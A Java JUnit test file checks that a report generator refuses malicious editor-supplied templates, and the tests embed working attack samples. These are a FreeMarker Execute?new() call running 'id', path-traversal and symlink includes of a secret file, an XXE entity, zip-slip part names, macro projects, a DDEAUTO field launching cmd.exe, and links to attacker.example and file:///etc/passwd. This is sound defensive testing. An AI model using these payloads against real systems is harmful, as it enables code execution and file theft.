package cn.zfxxgk.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cn.zfxxgk.report.readback.DocxReadback;
import cn.zfxxgk.report.readback.ZipEdits;
import cn.zfxxgk.report.template.Templates;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Templates come from editors and get less trust than code: each attack below is refused with its exact message, and
 * nothing of the machine leaks into a document or a message.
 */
class TemplateSecurityTest {

    @TempDir
    Path work;

    private Path templates;
    private Path secret;

    @BeforeEach
    void exportTemplates() throws Exception {
        templates = work.resolve("templates");
        Templates.export(templates, true, new ArrayList<>());
        secret = work.resolve("secret.txt");
        Files.writeString(secret, "TOP-SECRET-CONTENT\nroot:x:0:0:root:/root:/bin/bash\n");
    }

    private ReportEngine.Result generate(EnumSet<OutputFormat> formats) throws Exception {
        try (ReportEngine engine = new ReportEngine(
                new ReportEngine.Options(work.resolve("out"), formats, false, templates, List.of(), false))) {
            return engine.generate(Path.of("data/gangcha-2023.yaml"), "data/gangcha-2023.yaml");
        }
    }

    /** The one message of a run that must fail, having written nothing and leaked no secret. */
    private String refused(EnumSet<OutputFormat> formats) throws Exception {
        ReportEngine.Result result = generate(formats);
        assertTrue(result.failed(), "refused");
        assertFalse(
                Files.exists(work.resolve("out"))
                        && Files.list(work.resolve("out")).findAny().isPresent(),
                "nothing written");
        assertEquals(1, result.problems().size(), result.problems().toString());
        String message = result.problems().get(0).toString();
        assertFalse(message.contains("TOP-SECRET") || message.contains("root:x"), "no secret in " + message);
        return message;
    }

    /** The message when {@code injection} is put into the HTML template right after {@code <body>}. */
    private String refusedWith(String injection) throws Exception {
        Path file = templates.resolve("report.ftlh");
        Files.writeString(file, Files.readString(file).replace("<body>", "<body>" + injection), StandardCharsets.UTF_8);
        return refused(EnumSet.of(OutputFormat.HTML));
    }

    /** Where {@code <body>} is in the HTML template: injections start there. */
    private String atBody() throws Exception {
        List<String> lines = Files.readAllLines(templates.resolve("report.ftlh"));
        return FileNames.display(templates.resolve("report.ftlh")) + ":" + (lines.indexOf("<body>") + 1) + ":";
    }

    private String docx() {
        return FileNames.display(templates.resolve("report.docx"));
    }

    private void editDocx(String entry, byte[] content) throws Exception {
        Path docx = templates.resolve("report.docx");
        Files.write(docx, ZipEdits.withEntry(Files.readAllBytes(docx), entry, content));
    }

    private void replaceInDocx(String entry, String from, String to) throws Exception {
        Path docx = templates.resolve("report.docx");
        Files.write(docx, ZipEdits.replaceInZip(Files.readAllBytes(docx), entry, from, to));
    }

    @Test
    void noJavaObjectsCanBeCreated() throws Exception {
        String body = atBody();
        assertEquals(
                body
                        + "7: error: template error: Instantiating freemarker.template.utility.Execute is not allowed in the "
                        + "template for security reasons.; expected only the names listed in README.md, 'What a template sees'",
                refusedWith("${\"freemarker.template.utility.Execute\"?new()(\"id\")}"));
    }

    @Test
    void noJavaApiIsReachable() throws Exception {
        String body = atBody();
        assertEquals(
                body
                        + "9: error: template error: Can't use ?api, because the \"api_builtin_enabled\" configuration setting "
                        + "is false. Think twice before you set it to true though. Especially, it shouldn't abused for modifying "
                        + "Map-s and Collection-s.; expected only the names listed in README.md, 'What a template sees'",
                refusedWith("${report.agency?api.getClass()}"));
    }

    @Test
    void noFileOutsideTheTemplateDirectoryCanBeIncluded() throws Exception {
        String body = atBody();
        String expected = "; expected the name of a template file in " + FileNames.display(templates);
        assertEquals(
                body + "7: error: the template includes \"../secret.txt\", a name that leads outside the template "
                        + "directory" + expected,
                refusedWith("<#include \"../secret.txt\">"));
        Files.copy(
                Path.of("templates/report.ftlh"),
                templates.resolve("report.ftlh"),
                java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        assertEquals(
                body + "7: error: the template includes \"../secret.txt\", a name that leads outside the template "
                        + "directory" + expected,
                refusedWith("<#include \"/../secret.txt\">"));
        Files.copy(
                Path.of("templates/report.ftlh"),
                templates.resolve("report.ftlh"),
                java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        // an absolute name is a name inside the template directory: there is no such file there
        assertEquals(
                body + "7: error: the template includes \"" + secret.toString().substring(1)
                        + "\", which is in neither " + FileNames.display(templates) + " nor the built-in templates"
                        + expected,
                refusedWith("<#include \"" + secret + "\">"));
    }

    @Test
    void aLinkInTheTemplateDirectoryLeadingOutsideIsNotFollowed() throws Exception {
        Files.createSymbolicLink(templates.resolve("linked.ftlh"), secret);
        assertEquals(
                atBody() + "7: error: the template includes \"linked.ftlh\", which is a link that leads outside the "
                        + "template directory; expected templates inside it (copy the file there instead of linking to it)",
                refusedWith("<#include \"linked.ftlh\">"));
    }

    @Test
    void aFontsFileLinkedToASystemFileIsRefusedWithoutShowingIt() throws Exception {
        Files.delete(templates.resolve("fonts.properties"));
        Files.createSymbolicLink(templates.resolve("fonts.properties"), secret);
        assertEquals(
                FileNames.display(templates.resolve("fonts.properties")) + ": error: is a link that leads outside the "
                        + "template directory; expected the file itself in " + FileNames.display(templates)
                        + " (copy it there instead of linking to it)",
                refused(EnumSet.of(OutputFormat.PDF)));
    }

    @Test
    void aWordTemplateLinkedToAnotherDocumentIsRefused() throws Exception {
        Path elsewhere = work.resolve("elsewhere.docx");
        Files.move(templates.resolve("report.docx"), elsewhere);
        Files.createSymbolicLink(templates.resolve("report.docx"), elsewhere);
        assertEquals(
                docx() + ": error: is a link that leads outside the template directory; expected the file itself in "
                        + FileNames.display(templates) + " (copy it there instead of linking to it)",
                refused(EnumSet.of(OutputFormat.DOCX)));
    }

    @Test
    void aLinkThatStaysInsideTheTemplateDirectoryIsFollowed() throws Exception {
        Files.move(templates.resolve("report.docx"), templates.resolve("shared.docx"));
        Files.createSymbolicLink(templates.resolve("report.docx"), Path.of("shared.docx"));
        assertFalse(generate(EnumSet.of(OutputFormat.DOCX)).failed());
    }

    @Test
    void aDocxTemplateCannotReadFilesThroughXmlEntities() throws Exception {
        replaceInDocx(
                "word/styles.xml",
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>",
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<!DOCTYPE s [<!ENTITY x SYSTEM \""
                        + secret.toUri() + "\">]>");
        assertEquals(
                docx() + ": error: its part word/styles.xml is not well-formed XML (DOCTYPE is disallowed when the "
                        + "feature \"http://apache.org/xml/features/disallow-doctype-decl\" set to true.); expected a .docx "
                        + "saved by Word, WPS or LibreOffice",
                refused(EnumSet.of(OutputFormat.DOCX)));
    }

    @Test
    void aRenamedMacroDocumentIsRefused() throws Exception {
        replaceInDocx(
                "[Content_Types].xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document" + ".main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml");
        assertEquals(
                docx() + ": error: contains macros or active content (word/document.xml); expected a .docx without "
                        + "macros or active content (in Word: 文件 → 另存为 → Word 文档 (*.docx))",
                refused(EnumSet.of(OutputFormat.DOCX)));
    }

    @Test
    void aMacroProjectIsRefused() throws Exception {
        editDocx("word/vbaProject.bin", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0});
        assertEquals(
                docx() + ": error: contains macros or active content (word/vbaProject.bin); expected a .docx without "
                        + "macros or active content (in Word: 文件 → 另存为 → Word 文档 (*.docx))",
                refused(EnumSet.of(OutputFormat.DOCX)));
    }

    @Test
    void partNamesThatLeadOutOfThePackageAreRefused() throws Exception {
        editDocx("../../../../evil.txt", "pwned".getBytes(StandardCharsets.UTF_8));
        assertEquals(
                docx()
                        + ": error: holds a part with an unsafe name ('../../../../evil.txt'); expected part names inside "
                        + "the package, as Word, WPS and LibreOffice write them",
                refused(EnumSet.of(OutputFormat.DOCX)));
        Templates.export(templates, true, new ArrayList<>());
        editDocx("/etc/evil.txt", "pwned".getBytes(StandardCharsets.UTF_8));
        assertEquals(
                docx() + ": error: holds a part with an unsafe name ('/etc/evil.txt'); expected part names inside "
                        + "the package, as Word, WPS and LibreOffice write them",
                refused(EnumSet.of(OutputFormat.DOCX)));
    }

    @Test
    void anAttachedTemplateOnTheNetworkIsDroppedFromTheDocument() throws Exception {
        editDocx(
                "word/_rels/settings.xml.rels",
                ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship "
                                + "Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                + "attachedTemplate\" Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/>"
                                + "</Relationships>")
                        .getBytes(StandardCharsets.UTF_8));
        replaceInDocx(
                "word/settings.xml",
                "<w:evenAndOddHeaders/>",
                "<w:evenAndOddHeaders/><w:attachedTemplate r:id=\"rId1\"/>");
        assertFalse(generate(EnumSet.of(OutputFormat.DOCX)).failed());
        byte[] document = Files.readAllBytes(work.resolve("out/gangcha-2023.docx"));
        assertFalse(ZipEdits.entry(document, "word/_rels/settings.xml.rels").contains("attacker.example"));
        assertFalse(ZipEdits.entry(document, "word/settings.xml").contains("attachedTemplate"));
        assertTrue(
                ZipEdits.entry(document, "word/settings.xml").contains("<w:evenAndOddHeaders/>"), "the rest is kept");
        assertFalse(new DocxReadback(document).paragraphs().isEmpty());
    }

    @Test
    void aLinkedPictureOnTheNetworkIsRefused() throws Exception {
        replaceInDocx(
                "word/_rels/document.xml.rels",
                "</Relationships>",
                "<Relationship Id=\"rIdPic\" "
                        + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" "
                        + "Target=\"http://attacker.example/pixel.png\" TargetMode=\"External\"/></Relationships>");
        assertEquals(
                docx() + ": error: links to a file outside the document (image 'http://attacker.example/pixel.png' in "
                        + "word/_rels/document.xml.rels); expected a template that loads nothing from outside: insert the "
                        + "picture or object into the document instead of linking it",
                refused(EnumSet.of(OutputFormat.DOCX)));
    }

    @Test
    void aHyperlinkIsKept() throws Exception {
        replaceInDocx(
                "word/_rels/document.xml.rels",
                "</Relationships>",
                "<Relationship Id=\"rIdLink\" "
                        + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
                        + "Target=\"http://www.gov.cn/\" TargetMode=\"External\"/></Relationships>");
        assertFalse(generate(EnumSet.of(OutputFormat.DOCX)).failed());
        assertTrue(ZipEdits.entry(
                        Files.readAllBytes(work.resolve("out/gangcha-2023.docx")), "word/_rels/document.xml.rels")
                .contains("http://www.gov.cn/"));
    }

    @Test
    void aFieldThatRunsAProgramIsRefused() throws Exception {
        replaceInDocx(
                "word/footer1.xml",
                "<w:instrText xml:space=\"preserve\"> PAGE </w:instrText>",
                "<w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "
                        + "</w:instrText>");
        assertEquals(
                docx()
                        + ": error: contains a DDEAUTO field in word/footer1.xml, which runs a program or fetches a file "
                        + "when the document is opened; expected a .docx without macros or active content (in Word: 文件 → "
                        + "另存为 → Word 文档 (*.docx)) and no such fields",
                refused(EnumSet.of(OutputFormat.DOCX)));
        assertNull(ZipEdits.entry(Files.readAllBytes(Path.of("templates/report.docx")), "word/vbaProject.bin"));
    }

    @Test
    void theHtmlLoadsNothingFromOutside() throws Exception {
        String body = atBody();
        assertEquals(
                body
                        + "17: error: the template loads 'http://attacker.example/pixel.png' (<img src>); expected nothing "
                        + "loaded from outside the document: put an image in as a data: URI, styles in <style>",
                refusedWith("<img src=\"http://attacker.example/pixel.png\" alt=\"\"/>"));
        Files.copy(
                Path.of("templates/report.ftlh"),
                templates.resolve("report.ftlh"),
                java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        assertEquals(
                body + "36: error: the template loads 'file:///etc/passwd' (<div style>); expected nothing loaded from "
                        + "outside the document: put an image in as a data: URI, styles in <style>",
                refusedWith("<div style=\"background: url('file:///etc/passwd')\"/>"));
        Files.copy(
                Path.of("templates/report.ftlh"),
                templates.resolve("report.ftlh"),
                java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        assertEquals(
                body
                        + "36: error: the template loads 'style.css' (<link href>); expected nothing loaded from outside the "
                        + "document: put an image in as a data: URI, styles in <style>",
                refusedWith("<link rel=\"stylesheet\" href=\"style.css\"/>"));
    }

    @Test
    void embeddedImagesAndLinksAreFine() throws Exception {
        Path file = templates.resolve("report.ftlh");
        Files.writeString(
                file,
                Files.readString(file)
                        .replace(
                                "<body>",
                                "<body><img alt=\"\" src=\"data:image/png;"
                                        + "base64,iVBORw0KGgo=\"/><a href=\"http://www.gov.cn/\">gov.cn</a>"),
                StandardCharsets.UTF_8);
        ReportEngine.Result result = generate(EnumSet.of(OutputFormat.HTML));
        assertFalse(result.failed(), result.problems().toString());
    }
}
